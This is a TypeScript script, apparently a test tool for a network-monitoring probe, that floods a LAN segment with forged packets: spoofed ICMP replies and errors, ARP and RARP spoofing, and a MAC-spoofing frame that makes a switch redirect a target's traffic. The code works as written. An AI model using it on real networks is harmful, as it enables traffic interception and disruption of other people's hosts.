/**
 * Whoever floods a segment with forgeries: `flooder.js FLOOD`, a JSON object, sends so many frames a second of its kinds,
 * in turn, for so long. What may be guessed, it guesses anew each time; what was sent it does not see.
 */
import { getRandomValues } from 'node:crypto';
import { loadLibc } from '../../probes/net/libc.js';
import { Memory } from '../../probes/net/memory.js';

export interface Host {
  mac: string;
  /** In hex, as are the others. */
  ip: string;
}

export interface Flood {
  device: string;
  kinds: readonly Forgery[];
  perSecond: number;
  seconds: number;
  watcher: Host;
  target: Host;
}

interface Frame {
  text: string;
  /** Where two random bytes go: the id, or a part of a hardware address. */
  guesses: readonly number[];
  /** Where an ICMP checksum's message begins. */
  icmp?: number;
}

export type Forgery = 'reply' | 'error' | 'stamp' | 'arp' | 'rarp' | 'steal' | 'ask';

const BROADCAST = 'ffffffffffff';
const STRANGER = '0a5e00000003';
const STRANGER_IP = '0a5e0003';
const NOBODY = '000000000000';
const PAYLOAD = '5a'.repeat(56);
const ECHO = 'dead0001';

const ipv4 = (from: string, to: string, bytes: number) => {
  const length = (20 + bytes).toString(16).padStart(4, '0');
  const header = `4500${length}000040004001`;
  const sum = onesComplement(Buffer.from(`${header}0000${from}${to}`, 'hex'), 0);
  return `${header}${sum.toString(16).padStart(4, '0')}${from}${to}`;
};
/** The switch learns nothing of it: else it would send the stranger what is the target's. */
const own = (mac: string, ip: string, type: string, operation: string) =>
  `${BROADCAST}${STRANGER}${type}000108000604${operation}${mac}${ip}${NOBODY}${ip}`;

const FORGERIES: Record<Forgery, (watcher: Host, target: Host) => Frame> = {
  /** The target's, with a random id. */
  reply: (watcher, target) => ({
    text: `${watcher.mac}${STRANGER}0800${ipv4(target.ip, watcher.ip, 64)}00000000${ECHO}${PAYLOAD}`,
    guesses: [38, 40],
    icmp: 34,
  }),
  /** "Host unreachable", of an echo request of the watcher with a random id. */
  error: (watcher, target) => ({
    text: `${watcher.mac}${STRANGER}0800${ipv4(target.ip, watcher.ip, 92)}0301000000000000${ipv4(watcher.ip, target.ip, 64)}08000000${ECHO}${PAYLOAD}`,
    guesses: [66, 68],
    icmp: 34,
  }),
  /** A time beyond the day. */
  stamp: (watcher, target) => ({
    text: `${watcher.mac}${STRANGER}0800${ipv4(target.ip, watcher.ip, 20)}0e000000${ECHO}${'ff'.repeat(12)}`,
    guesses: [38, 40, 42, 44],
    icmp: 34,
  }),
  arp: (_, target) => ({ text: own(STRANGER, target.ip, '0806', '0002'), guesses: [26] }),
  /** The target's own address, as if it had moved. */
  rarp: (_, target) => ({ text: own(target.mac, '00000000', '8035', '0003'), guesses: [] }),
  /** The same with the target's address as Ethernet source: the switch then sends the target's traffic to us. */
  steal: (_, target) => ({
    text: `${BROADCAST}${target.mac}80350001080006040003${target.mac}00000000${target.mac}00000000`,
    guesses: [],
  }),
  /** An ARP request for the target: its reply shows the switch where it really is. */
  ask: (_, target) => ({
    text: `${BROADCAST}${STRANGER}08060001080006040001${STRANGER}${STRANGER_IP}${NOBODY}${target.ip}`,
    guesses: [],
  }),
};

function onesComplement(data: Uint8Array, from: number): number {
  let sum = 0;
  for (let at = from; at < data.length; at += 2) sum += (data[at]! << 8) + data[at + 1]!;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const { device, kinds, perSecond, seconds, watcher, target }: Flood = JSON.parse(process.argv[2]!);
const libc = await loadLibc();
const fd = libc.socket(17, 3, 0);
const address = new Memory(20);
address.view.setUint16(0, 17, true);
address.view.setInt32(4, libc.if_nametoindex(device), true);

const frames = kinds.map(kind => {
  const frame = FORGERIES[kind](watcher, target);
  const bytes = Buffer.from(frame.text, 'hex');
  const memory = new Memory(bytes.length);
  memory.bytes.set(bytes);
  return { ...frame, memory };
});

function forge({ memory, guesses, icmp }: Frame & { memory: Memory }): void {
  for (const at of guesses) getRandomValues(memory.bytes.subarray(at, at + 2));
  if (icmp !== undefined) {
    memory.view.setUint16(icmp + 2, 0);
    memory.view.setUint16(icmp + 2, onesComplement(memory.bytes, icmp));
  }
  libc.sendto(fd, memory.bytes, 0, address.bytes);
}

const sleeper = new Int32Array(new SharedArrayBuffer(4));
const began = performance.now();
let sent = 0;
for (let passed = 0; passed < seconds * 1000; passed = performance.now() - began) {
  for (; sent < (passed / 1000) * perSecond; sent++) forge(frames[sent % frames.length]!);
  Atomics.wait(sleeper, 0, 0, 1);
}
console.log(sent);
